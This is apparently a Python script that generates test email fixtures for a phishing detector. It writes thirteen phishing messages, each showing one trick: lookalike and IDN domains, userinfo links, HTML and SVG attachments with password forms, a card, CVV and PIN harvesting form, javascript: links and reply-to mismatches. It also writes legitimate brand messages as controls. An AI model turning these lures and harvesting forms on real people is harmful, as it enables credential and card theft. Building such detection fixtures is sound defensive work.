#!/usr/bin/env python3
"""Writes the phishing fixtures of corpus/phishing/ (one message per trick,
and ham from each brand's own domain), deterministically. Run from anywhere:
    python3 corpus/phishing/make_phishing.py
What each must raise is in expect.toml beside them."""
import base64
import os

HERE = os.path.dirname(os.path.abspath(__file__))
DATE = "Thu, 03 Dec 2026 10:00:00 +0000"


def message(name, headers, body, content_type="text/html; charset=utf-8"):
    lines = [
        "Received: from mx.example.net (mx.example.net [198.51.100.20]) by mail.example.org with ESMTP id 4B1C2; " + DATE,
        "Date: " + DATE,
        "Message-ID: <" + name + "@fixtures.example.org>",
        "To: customer@example.org",
        "MIME-Version: 1.0",
    ]
    lines += headers
    if content_type:
        lines.append("Content-Type: " + content_type)
    text = "\n".join(lines) + "\n\n" + body.strip("\n") + "\n"
    with open(os.path.join(HERE, name + ".eml"), "w", encoding="utf-8", newline="\n") as f:
        f.write(text)


def html(inner):
    return "<html><body>\n" + inner.strip("\n") + "\n</body></html>"


# Phishing, one trick each.
message("lookalike-domain", [
    'From: "PayPal" <service@paypa1.com>',
    "Subject: Your account access has been limited",
], html("""
<p>Dear PayPal customer,</p>
<p>We noticed unusual activity on your account. Please log in to restore access.</p>
<p><a href="http://www.paypa1.com/cgi-bin/webscr?cmd=_login">Log in to PayPal</a></p>
"""))

message("idn-confusable", [
    'From: "Account Services" <notice@mailer.example.net>',
    "Subject: Action required on your account",
], html("""
<p>Your PayPal account needs attention.</p>
<p><a href="http://xn--pypal-4ve.com/signin">Resolve now</a></p>
"""))

message("userinfo-link", [
    'From: "eBay" <aw-confirm@ebay.com>',
    "Subject: Please update your eBay records",
], html("""
<p>Dear eBay member, we were unable to verify your account information.</p>
<p><a href="http://signin.ebay.com@198.51.100.7/ws/eBayISAPI.dll">https://signin.ebay.com/ws/eBayISAPI.dll?SignIn</a></p>
"""))

message("brand-display-name", [
    'From: "Bank of America Online" <alerts@secure-notice.example.net>',
    "Subject: Important security notice",
], html("""
<p>Your Bank of America account has been temporarily suspended.</p>
<p>Please verify your identity within 24 hours: <a href="http://boa-verify.example.com/login">Verify now</a></p>
"""))

attachment = """<html><body><h2>Microsoft Office 365</h2>
<form action="http://collect.example.com/post.php" method="post">
Email <input type="text" name="email"><br>
Password <input type="password" name="pass"><br>
<input type="submit" value="Sign in"></form></body></html>"""
message("html-attachment-form", [
    'From: "Accounts Payable" <billing@invoices.example.net>',
    "Subject: Invoice 44021 overdue",
], """--b1
Content-Type: text/plain; charset=utf-8

Please find the overdue invoice attached. Open it and sign in with your Office 365 account to view.

--b1
Content-Type: text/html; charset=utf-8; name="Invoice-44021.html"
Content-Disposition: attachment; filename="Invoice-44021.html"
Content-Transfer-Encoding: base64

""" + base64.encodebytes(attachment.encode()).decode() + """
--b1--""", content_type='multipart/mixed; boundary="b1"')

svg = """<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200">
<a href="http://docs-share.example.com/open"><text x="10" y="40">View shared DocuSign document</text></a>
<foreignObject width="400" height="150"><form action="http://docs-share.example.com/p"><input type="password" name="p"></form></foreignObject>
</svg>"""
message("svg-attachment-form", [
    'From: "DocuSign" <dse@sign-docs.example.net>',
    "Subject: Document ready for signature",
], """--b2
Content-Type: text/plain; charset=utf-8

You have a document to review and sign.

--b2
Content-Type: image/svg+xml; name="document.svg"
Content-Disposition: attachment; filename="document.svg"
Content-Transfer-Encoding: base64

""" + base64.encodebytes(svg.encode()).decode() + """
--b2--""", content_type='multipart/mixed; boundary="b2"')

message("card-form", [
    'From: "Visa Security" <security@cardcheck.example.net>',
    "Subject: Verified by Visa registration",
], html("""
<p>Please confirm your card details for Verified by Visa.</p>
<form action="http://cardcheck.example.net/s.php" method="post">
Card number <input type="text" name="ccnum"><br>
Expiry <input type="text" name="exp_month"> CVV2 <input type="text" name="cvv2"><br>
ATM PIN <input type="password" name="atmpin"><br>
<input type="submit" value="Submit"></form>
"""))

message("shortener", [
    'From: "Delivery" <noreply@parcel.example.net>',
    "Subject: Your parcel is waiting",
], html("""
<p>Your DHL parcel could not be delivered. Reschedule: <a href="https://bit.ly/3xYzAbC">https://bit.ly/3xYzAbC</a></p>
"""))

message("brand-in-host-and-path", [
    'From: "Service" <service@notify.example.net>',
    "Subject: Confirm your details",
], html("""
<p>Your PayPal account is on hold.</p>
<p><a href="http://paypal.com.account-verify.example.net/webscr">Step 1</a>
<a href="http://paypal-account-security.com/login">Step 2</a>
<a href="http://files.example.org/www.paypal.com/index.php">Step 3</a></p>
"""))

message("data-and-javascript-links", [
    'From: "Support" <support@helpdesk.example.net>',
    "Subject: Mailbox quota",
], html("""
<p>Your mailbox is full. <a href="data:text/html;base64,PGgxPlNpZ24gaW48L2gxPg==">Open the sign-in page</a>
or <a href="javascript:document.location='http://x.example.com/'">click here</a>.</p>
"""))

message("reply-to-elsewhere", [
    'From: "eBay Trust & Safety" <safeharbor@ebay.com>',
    "Reply-To: ebay-safety@freemail.example.com",
    "Subject: Account verification",
], "Dear member,\n\nWe need you to reply with your user ID and password to keep your account active.\n",
    content_type="text/plain; charset=utf-8")

message("address-in-display-name", [
    'From: "service@paypal.com" <mailer@bulk.example.net>',
    "Subject: Payment received",
], "You have received a payment. Log in to your account to accept it.\n",
    content_type="text/plain; charset=utf-8")

message("lure-german", [
    'From: "Sparkasse" <kundenservice@sparkasse-info.example.net>',
    "Subject: Sicherheitshinweis",
], html("""
<p>Sehr geehrter Kunde, Ihr Konto wurde vorübergehend gesperrt.</p>
<p>Bitte bestätigen Sie Ihre Daten: <a href="http://198.51.100.9/sparkasse/">Jetzt bestätigen</a></p>
"""))

# Ham from each brand's own domain: none of the brand signs may fire.
message("ham-paypal-receipt", [
    'From: "PayPal" <service@paypal.com>',
    "Subject: Receipt for your payment to Example Store",
], html("""
<p>Hello, you sent a payment of $25.00 USD to Example Store.</p>
<p>View the details at <a href="https://www.paypal.com/myaccount/transactions">www.paypal.com</a>.</p>
<p><img src="https://www.paypalobjects.com/images/logo.png" alt="PayPal"></p>
"""))

message("ham-amazon-shipment", [
    'From: "Amazon.com" <shipment-tracking@amazon.com>',
    "Subject: Your Amazon.com order has shipped",
], html("""
<p>Your order of "Rust in Action" has shipped with UPS.</p>
<p>Track it at <a href="https://www.ups.com/track?tracknum=1Z999">ups.com</a> or in
<a href="https://www.amazon.com/gp/your-account/order-history">Your Orders</a> on
<a href="https://www.amazon.com/">amazon.com</a>.</p>
"""))

message("ham-chase-statement", [
    'From: "Chase" <no.reply.alerts@chase.com>',
    "Subject: Your statement is ready",
], html("""
<p>Your Chase credit card statement is ready. Sign in at
<a href="https://secure.chase.com/web/auth/dashboard">chase.com</a> to view it.</p>
"""))

message("ham-microsoft-signin", [
    'From: "Microsoft account team" <account-security-noreply@accountprotection.microsoft.com>',
    "Subject: Microsoft account unusual sign-in activity",
], html("""
<p>We detected something unusual about a recent sign-in to the Microsoft account ex***@example.org.</p>
<p><a href="https://account.live.com/Activity">Review recent activity</a></p>
"""))
